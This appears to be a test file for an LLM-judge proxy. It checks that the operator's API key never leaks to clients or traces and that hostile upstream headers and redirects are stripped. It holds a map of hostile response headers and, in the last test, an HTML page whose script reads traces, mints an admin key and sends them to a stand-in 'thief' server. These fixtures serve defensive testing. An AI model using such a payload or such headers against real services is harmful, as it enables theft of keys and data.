/** What of an upstream goes out: no key of the operator's, no header that acts on a browser or passes for ours, no redirect. */
import { existsSync } from 'node:fs';
import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import puppeteer from 'puppeteer-core';
import { describe, expect, onTestFinished, test } from 'vitest';
import { readConfig } from '../../src/proxy/config.ts';
import { createMask, removeQueryKeys } from '../../src/proxy/secrets.ts';
import { fair, pairwise, RIGHT, replyBody, WRONG, whole } from '../proxy/judges.ts';
import {
  type Answer,
  type Ask,
  exchange,
  keyOf,
  type Reply,
  startProxy,
  startUpstream,
  until,
} from '../proxy/servers.ts';

const CHROMIUM = process.env.CHROMIUM ?? '/usr/bin/chromium';
const KEY = 'sk-operator/0001+=';
const CHAT = '/v1/chat/completions';

/** Every way through the proxy. */
const WAYS: readonly (readonly [name: string, path: string, ask: Ask])[] = [
  ['a judgment', CHAT, { method: 'POST', body: pairwise(RIGHT, WRONG) }],
  ['a streamed judgment', CHAT, { method: 'POST', body: pairwise(RIGHT, WRONG, { stream: true }) }],
  [
    'no judgment',
    CHAT,
    { method: 'POST', body: '{"model": "m", "messages": [{"role": "user", "content": "Hi!"}]}' },
  ],
  [
    'switched off',
    CHAT,
    { method: 'POST', headers: { 'x-remand-mode': 'off' }, body: pairwise(RIGHT, WRONG) },
  ],
  ['another path', '/v1/embeddings', { method: 'POST', body: '{}' }],
  ['a look', '/v1/models', {}],
];

const SPELLINGS: readonly (readonly [string, string])[] = [
  ['as it is', KEY],
  ['with slashes escaped', KEY.replaceAll('/', '\\/')],
  ['with every character escaped', [...KEY].map(unicode).join('')],
  ['twice escaped', JSON.stringify(JSON.stringify(KEY.replaceAll('/', '\\/'))).slice(3, -3)],
  ['percent-encoded', encodeURIComponent(KEY)],
];

function unicode(character: string): string {
  return `\\u${character.charCodeAt(0).toString(16).padStart(4, '0').toUpperCase()}`;
}

async function proxied(reply: Reply, settings: Record<string, string> = {}) {
  const upstream = await startUpstream(reply);
  const proxy = await startProxy({ JUDGE_BASE_URL: upstream.url, JUDGE_API_KEY: KEY, ...settings });
  const at = (path: string, ask: Ask = {}) => exchange(proxy.url + path, ask);
  /** The trace that an answer's headers tell of, once it is kept. */
  const kept = (told: Answer['headers']) =>
    until(async () => {
      const { status, body } = await at(`/remand/traces/${told['x-remand-trace']}`);
      return status === 200 ? body.toString() : null;
    }, 'the trace is kept');
  return { upstream, proxy, at, kept };
}

describe("the operator's key", () => {
  for (const [spelling, quoted] of SPELLINGS)
    test.each(WAYS)(
      `quoted in an error (${spelling}) does not reach the client: %s`,
      async (_name, path, ask) => {
        const { at } = await proxied((_received, response) => {
          response.writeHead(401, { 'content-type': 'application/json', 'x-request-id': KEY });
          response.end(`{"error": {"message": "Incorrect API key provided: ${quoted}. See …"}}`);
        });
        const answer = await at(path, ask);
        expect(answer.status).toBe(401);
        expect(answer.body.toString()).not.toContain(quoted);
        expect(answer.body.toString()).toMatch(/"Incorrect API key provided: \[key\]\**\. See …"/);
        expect(answer.headers['x-request-id']).toBe('[key]');
      },
    );

  test('set with a line break behind it, as files of secrets have, does not reach the client either', async () => {
    const { at } = await proxied(
      ({ headers }, response) => {
        response.writeHead(401, { 'content-type': 'application/json' });
        response.end(`{"error": {"message": "Incorrect API key provided: ${headers.authorization}"}}`);
      },
      { JUDGE_API_KEY: `${KEY}\n` },
    );
    const answer = await at(CHAT, { method: 'POST', body: pairwise(RIGHT, WRONG) });
    expect(answer.body.toString()).toMatch(/provided: Bearer \[key\]\**"/);
  });

  test('quoted in a verdict does not reach the client, nor from the cache', async () => {
    const { at } = await proxied(
      (_received, response) => {
        response.setHeader('content-type', 'application/json');
        response.end(replyBody('Output (a)').replace('chatcmpl-1', `for ${KEY}`));
      },
      { REMAND_CACHE_S: '60', REMAND_BIASES: 'verbosity', REMAND_STATE: ':memory:' },
    );
    const body = pairwise(RIGHT, WRONG, { temperature: 0 });
    const first = await at(CHAT, { method: 'POST', body });
    const again = await until(async () => {
      const answer = await at(CHAT, { method: 'POST', body });
      return answer.headers['x-remand-cache'] === 'hit' ? answer : null;
    }, 'the answer is kept');
    for (const { status, body: got } of [first, again]) {
      expect(status).toBe(200);
      expect(got.toString()).not.toContain(KEY);
      expect(got.toString()).toContain('for [key]');
    }
  });

  test('quoted in a verdict is in no trace, and neither is the client’s own', async () => {
    const { at, kept } = await proxied(
      whole(() => `Output (a), says the bearer of ${KEY} and sk-of-a-client`),
    );
    const headers = { 'x-api-key': 'sk-of-a-client' };
    const { status, headers: told } = await at(CHAT, {
      method: 'POST',
      headers,
      body: pairwise(RIGHT, WRONG),
    });
    expect(status).toBe(200);
    const trace = await kept(told);
    expect(trace).toContain('says the bearer of [key] and [key]');
    expect(trace).not.toMatch(/sk-o/);
  });

  test.each([
    ['as it is', 'AIzaOfAClient/0123', 'AIzaOfAClient/0123'],
    ['percent-encoded', 'AIzaOfAClient%2F0123', 'AIzaOfAClient/0123'],
  ])('the client’s own in the query (%s), quoted in a verdict, is in no trace', async (_, sent, quoted) => {
    const reply = { candidates: [{ content: { parts: [{ text: `Output (a), says ${quoted}` }] } }] };
    const { at, kept } = await proxied((_received, response) => {
      response.setHeader('content-type', 'application/json');
      response.end(JSON.stringify(reply));
    });
    const { messages } = JSON.parse(pairwise(RIGHT, WRONG));
    const contents = messages.map(({ content }: { content: string }) => ({ parts: [{ text: content }] }));
    const { headers: told } = await at(`/v1beta/models/m:generateContent?key=${sent}`, {
      method: 'POST',
      body: JSON.stringify({ contents }),
    });
    const trace = await kept(told);
    expect(trace).toContain('Output (a), says [key]');
    expect(trace).not.toContain('OfAClient');
  });

  test.each(['"status":', 'insisted', '"options":', 'position', 'withheld'])(
    'a client’s that spells what a trace is made of changes none: Bearer %s',
    async (key) => {
      const { at, kept } = await proxied(
        whole(() => 'Output (a)'),
        { REMAND_BIASES: 'position', REMAND_TRACE_TEXTS: 'off' },
      );
      const headers = { authorization: `Bearer ${key}` };
      const body = pairwise(RIGHT, WRONG);
      const { headers: told } = await at(CHAT, { method: 'POST', headers, body });
      const trace = JSON.parse(await kept(told));
      expect(trace).toMatchObject({
        status: 'insisted',
        biases: ['position'],
        looked_for: ['position'],
        final: { choice: 'Output (a)', text: '[10 characters withheld]' },
      });
    },
  );

  test('quoted as the model that answered is in no trace', async () => {
    const { at, kept } = await proxied((_received, response) => {
      response.setHeader('content-type', 'application/json');
      response.end(JSON.stringify({ ...JSON.parse(replyBody('Output (a)')), system_fingerprint: KEY }));
    });
    const { headers: told } = await at(CHAT, { method: 'POST', body: pairwise(RIGHT, WRONG) });
    const trace = JSON.parse(await kept(told));
    expect(trace.fingerprint.served).toContain('[key]');
    expect(JSON.stringify(trace)).not.toContain(KEY);
  });

  test.each([1, 2, 3, 7])('cut into pieces of %i bytes does not reach the client', async (size) => {
    const sent = Buffer.from(`data: ${KEY}\n\ndata: ${KEY.slice(0, -1)}.\n\ndata: [DONE]\n\n`);
    const { at } = await proxied(async (_received, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream', 'content-length': sent.length });
      for (let from = 0; from < sent.length; from += size) {
        response.write(sent.subarray(from, from + size));
        await new Promise((resolve) => setImmediate(resolve));
      }
      response.end();
    });
    const { body } = await at('/v1/responses/1');
    const mask = '[key]'.padEnd(KEY.length, '*');
    expect(body.toString()).toBe(sent.toString().replace(KEY, mask));
  });

  test.each([
    ['gzip', gzipSync, 401],
    ['deflate', deflateSync, 401],
    ['br', brotliCompressSync, 401],
    ['zstd', zstdCompressSync, 401],
    // No runtime undoes it.
    ['compress', gzipSync, 502],
  ])('packed unasked (%s) does not reach the client', async (encoding, pack, status) => {
    const { upstream, at } = await proxied((_received, response) => {
      response.writeHead(401, { 'content-encoding': encoding });
      response.end(pack(`no such key: ${KEY}`));
    });
    const answer = await at('/v1/models', { headers: { 'accept-encoding': encoding } });
    expect(upstream.received[0]?.headers['accept-encoding']).toBe('identity');
    expect(answer.status).toBe(status);
    expect(answer.headers).not.toHaveProperty('content-encoding');
    if (status === 401) expect(answer.body.toString()).toMatch(/^no such key: \[key\]\*+$/);
  });

  test('is looked for without touching anything else, and with no wait for what follows', () => {
    const mask = createMask([KEY, 'short']);
    const bytes = Buffer.from([...Array(256).keys(), ...Buffer.from('short \\ % \\u00 %7')]);
    expect(mask.bytes(bytes)).toBe(bytes);
    const next = mask.begin();
    expect(Buffer.from(next(bytes)).toString('latin1')).toBe(bytes.subarray(0, -2).toString('latin1'));
    expect(Buffer.from(next(null)).toString()).toBe('%7');
    const event = Buffer.from('data: {"a": "so sk-"}\n\n');
    expect(Buffer.from(mask.begin()(event)).toString()).toBe(event.toString());
  });
});

test('values of keys in a query are taken out of a text, each of them', () => {
  const url =
    'http://h/p?key=AIzaSecret&alt=sse&key=other#f and /x?api_key=1&access_token=2&apiKey=3&model=m&monkeys=4';
  expect(removeQueryKeys(url)).toBe(
    'http://h/p?key=[key]&alt=sse&key=[key]#f and /x?api_key=[key]&access_token=[key]&apiKey=[key]&model=m&monkeys=[key]',
  );
});

const HOSTILE = {
  'set-cookie': 'session=stolen; Path=/',
  'clear-site-data': '"*"',
  'x-remand-status': 'revised',
  'x-remand-trace': 'forged',
  'x-remand-cache': 'hit',
  location: 'http://elsewhere.test/',
  refresh: '0; url=http://elsewhere.test/',
  'access-control-allow-origin': '*',
  'access-control-allow-credentials': 'true',
  'content-security-policy': "script-src 'unsafe-inline'",
  'service-worker-allowed': '/',
  'strict-transport-security': 'max-age=31536000',
  'www-authenticate': 'Basic realm="your password, please"',
  'alt-svc': 'h3="elsewhere.test:443"',
  'x-powered-by': 'something old',
};

const NEEDED = {
  'x-request-id': 'req_1',
  'request-id': 'req_2',
  'openai-processing-ms': '12',
  'openai-organization': 'org',
  'anthropic-ratelimit-requests-remaining': '3',
  'x-ratelimit-remaining-tokens': '7',
  'retry-after': '1',
  'retry-after-ms': '20',
  'x-should-retry': 'false',
  'x-compute-time': '0.2',
};

describe('headers', () => {
  for (const status of [200, 429])
    test.each(WAYS)(
      `of a reply with status ${status}: what SDKs read goes on, nothing else does: %s`,
      async (_name, path, ask) => {
        const { at } = await proxied(
          (received, response) => {
            const stream = /"stream": ?true/.test(received.body.toString());
            response.writeHead(status, {
              ...{ ...HOSTILE, ...NEEDED },
              'content-type': stream && status === 200 ? 'text/event-stream' : 'application/json',
            });
            response.end(
              stream && status === 200
                ? `data: {"choices":[{"index":0,"delta":{"content":"Output (a)"},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n`
                : replyBody('Output (a)'),
            );
          },
          { REMAND_BIASES: 'verbosity' },
        );
        const { headers, status: got } = await at(path, ask);
        expect(got).toBe(status);
        expect(headers).toMatchObject(NEEDED);
        for (const [name, value] of Object.entries(HOSTILE))
          expect([name, headers[name]]).not.toEqual([name, value]);
        expect(headers).not.toHaveProperty('set-cookie');
        expect(headers['x-content-type-options']).toBe('nosniff');
        expect(headers['content-security-policy']).toBe('sandbox');
      },
    );

  test('of our own errors: they are no page of ours either', async () => {
    const proxy = await startProxy({ JUDGE_BASE_URL: 'http://127.0.0.1:1' });
    for (const [, path, ask] of WAYS) {
      const { status, headers } = await exchange(proxy.url + path, ask);
      expect(status).toBe(502);
      expect(headers).toMatchObject({
        'x-content-type-options': 'nosniff',
        'content-security-policy': 'sandbox',
      });
    }
  });

  test('more of them go on where the operator lists them', async () => {
    const { at } = await proxied(
      (_received, response) => {
        response.writeHead(200, { 'x-served-by': 'a', 'x-cache-hits': '3', 'x-other': '1' });
        response.end('{}');
      },
      { REMAND_REPLY_HEADERS: 'X-Served-By, x-cache-*' },
    );
    const { headers } = await at('/v1/models');
    expect(headers).toMatchObject({ 'x-served-by': 'a', 'x-cache-hits': '3' });
    expect(headers).not.toHaveProperty('x-other');
  });

  test.each([
    'set-cookie',
    'clear-site-data',
    'x-remand-status',
    'x-rem*',
    '*',
    'location',
    'a b',
    'access-control-allow-origin',
  ])('that nobody may list: %s', (name) => {
    expect(() => readConfig({ REMAND_REPLY_HEADERS: name })).toThrow('REMAND_REPLY_HEADERS');
  });
});

describe('a redirect', () => {
  const away: Reply = (_received, response) => {
    response.writeHead(307, { location: 'http://elsewhere.test/v1/models' });
    response.end('<a href="http://elsewhere.test/">');
  };

  test.each(WAYS)('is a 502 that leads nowhere: %s', async (_name, path, ask) => {
    const { at } = await proxied(away);
    const answer = await at(path, ask);
    expect(answer.status).toBe(502);
    expect(answer.headers).not.toHaveProperty('location');
    expect(JSON.parse(answer.body.toString()).error.message).toContain('REMAND_REDIRECTS');
    expect(answer.body.toString()).not.toContain('elsewhere');
  });

  test.each(WAYS)("is the client's to follow where the operator says so: %s", async (_name, path, ask) => {
    const { at } = await proxied(away, { REMAND_REDIRECTS: 'pass' });
    const answer = await at(path, ask);
    expect([answer.status, answer.headers.location]).toEqual([307, 'http://elsewhere.test/v1/models']);
  });
});

test.skipIf(!existsSync(CHROMIUM))(
  `HTML of an upstream, opened in a browser that may read traces and make keys, does neither (skipped without ${CHROMIUM})`,
  { timeout: 120_000 },
  async () => {
    const stolen: string[] = [];
    const thief = await startUpstream((received, response) => {
      stolen.push(received.url);
      response.setHeader('access-control-allow-origin', '*');
      response.end();
    });
    const page = `<!doctype html><title>here</title><p>read</p><form id="f" method="post" action="/remand/keys"></form>
<script>(async () => {
  document.title = 'ran';
  const traces = await fetch('/remand/traces').then((r) => r.text()).catch(String);
  const key = await fetch('/remand/keys', { method: 'POST', body: '{"name":"x","scopes":["admin"]}' }).then((r) => r.text()).catch(String);
  await fetch('${thief.url}/?' + encodeURIComponent(traces + key));
})()</script><img src="x" onerror="fetch('${thief.url}/?image')">`;
    const admin = await keyOf('admin', ['admin']);
    const { at, proxy } = await proxied(
      (received, response) => {
        if (received.url === CHAT) return void whole(fair)(received, response);
        response.writeHead(received.url.includes('error') ? 404 : 200, { 'content-type': 'text/html' });
        response.end(page);
      },
      { REMAND_KEYS: JSON.stringify([admin.record]), REMAND_ACCESS: 'pages' },
    );
    await at(CHAT, { method: 'POST', body: pairwise(RIGHT, WRONG) });
    const browser = await puppeteer.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
    onTestFinished(() => browser.close());
    const tab = await browser.newPage();
    await tab.authenticate({ username: 'me', password: admin.key });
    // The browser may: it has the operator's password.
    expect((await tab.goto(`${proxy.url}/remand/keys`))?.status()).toBe(200);
    for (const path of ['/v1/page', '/v1/error']) {
      await tab.goto(proxy.url + path);
      await new Promise((resolve) => setTimeout(resolve, 500));
      expect(await tab.title()).toBe('here');
    }
    expect(stolen).toEqual([]);
    const keys = await exchange(`${proxy.url}/remand/keys`, { headers: { 'x-remand-key': admin.key } });
    expect(JSON.parse(keys.body.toString()).keys).toHaveLength(1);
  },
);
